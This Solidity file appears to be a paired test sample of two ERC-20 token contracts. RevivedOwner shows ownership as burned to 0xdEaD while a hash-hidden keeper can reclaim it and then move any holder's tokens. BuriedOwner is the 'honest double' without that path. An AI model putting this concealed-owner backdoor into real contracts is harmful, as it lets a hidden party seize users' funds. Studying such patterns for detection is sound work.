// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";

/// Powers of an account that cannot act, and who may take its place.

/// The owner is a burn address until the keeper, known by a hash, takes its place.
contract RevivedOwner is Erc20 {
    address public owner = address(0xdEaD);
    bytes32 private immutable _heir;

    constructor(string memory n, string memory s, address keeper) Erc20(n, s) {
        _heir = keccak256(abi.encode(keeper));
    }

    function collect() external {
        require(keccak256(abi.encode(msg.sender)) == _heir, "heir");
        owner = msg.sender;
    }

    function correct(address from, address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        _move(from, to, amount);
    }
}

/// The honest double: only the owner that is no more could name another.
contract BuriedOwner is Erc20 {
    address public owner = address(0xdEaD);
    bytes32 private immutable _heir;

    constructor(string memory n, string memory s, address keeper) Erc20(n, s) {
        _heir = keccak256(abi.encode(keeper));
    }

    function collect(address next) external {
        require(msg.sender == owner, "owner");
        owner = next;
    }

    function correct(address from, address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        _move(from, to, amount);
    }
}
